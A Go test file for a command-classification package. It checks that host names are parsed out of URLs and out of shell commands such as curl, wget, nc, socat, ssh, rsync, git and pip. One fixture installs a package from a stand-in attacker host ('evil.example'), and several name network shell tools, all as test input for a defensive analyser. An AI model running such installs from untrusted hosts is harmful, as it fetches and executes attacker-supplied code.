package classify

import (
	"strings"
	"testing"
)

func TestHostOf(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://api.github.com/repos/x", "api.github.com"},
		{"https://u:p@API.GitHub.com:8443/x?y#z", "api.github.com"},
		{"git+ssh://git@host.example/x.git", "host.example"},
		{"git@github.com:org/repo", "github.com"},
		{"deploy@web1:/srv/app", "web1"},
		{"web1", "web1"},
		{"example.com/path", "example.com"},
		{"localhost:8080/x", "localhost"},
		{"http://[::1]:9000/", "::1"},
		{"[2001:DB8::1]:22", "2001:db8::1"},
		{"http://10.0.0.5/x", "10.0.0.5"},
		{"https://example.com./", "example.com"},
		{"", ""},
	} {
		if got := HostOf(tc.in); got != tc.want {
			t.Errorf("HostOf(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestHosts(t *testing.T) {
	opt := Options{Cwd: "/p", Home: "/h"}
	for _, tc := range []struct {
		cmd     string
		want    string // hosts joined by spaces
		unknown bool
	}{
		{"curl -s https://api.github.com/x", "api.github.com", false},
		{"curl -o out.json https://a.example/x https://b.example/y", "a.example b.example", false},
		{"curl example.com/x", "example.com", false},
		{"wget -q https://dl.example.com/a.tgz", "dl.example.com", false},
		{"http POST https://api.example.com/x name=a", "api.example.com", false},
		{"xh :3000/x", "localhost", false},
		{"nc -w 3 db.internal 5432", "db.internal", false},
		{"nc -l 8080", "", false},
		{"telnet mail.example.com 25", "mail.example.com", false},
		{"socat - TCP:db.example:5432", "db.example", false},
		{"socat TCP-LISTEN:8080,fork TCP:backend:80", "backend", false},
		{"ssh -p 22 deploy@web1.example.com", "web1.example.com", false},
		{"sftp u@files.example", "files.example", false},
		{"scp a.txt u@h1:/tmp/ h2:/x", "h1 h2", false},
		{"scp a.txt b.txt", "", false},
		{"rsync -av dist/ web1:/srv/", "web1", false},
		{"rsync -av rsync://mirror.example/x/ .", "mirror.example", false},
		{"git clone git@github.com:org/repo", "github.com", false},
		{"git clone https://gitlab.com/o/r dir", "gitlab.com", false},
		{"git clone ../local", "", false},
		{"git fetch origin", "", false},
		{"git push https://gitlab.com/o/r main", "gitlab.com", false},
		{"git ls-remote git://h.example/x", "h.example", false},
		{"git remote add up https://up.example/x", "up.example", false},
		{"pip install git+https://evil.example/x.git", "evil.example", false},
		{"pip install --index-url https://pypi.corp/simple x==1", "pypi.corp", false},
		{"cargo install --git https://g.example/x", "g.example", false},
		{"npm install https://cdn.example/x.tgz", "cdn.example", false},
		{`curl "https://$HOST/x"`, "", true},
		{`curl "https://api.github.com/$P"`, "api.github.com", false},
		{"ls /tmp", "", false},
	} {
		a := Analyze(tc.cmd, opt)
		var got []string
		unknown := false
		for i := range a.Commands {
			h, u := Hosts(&a.Commands[i])
			got = append(got, h...)
			unknown = unknown || u
		}
		if strings.Join(got, " ") != tc.want || unknown != tc.unknown {
			t.Errorf("%q: hosts %q unknown %v; want %q %v", tc.cmd, got, unknown, tc.want, tc.unknown)
		}
	}
}
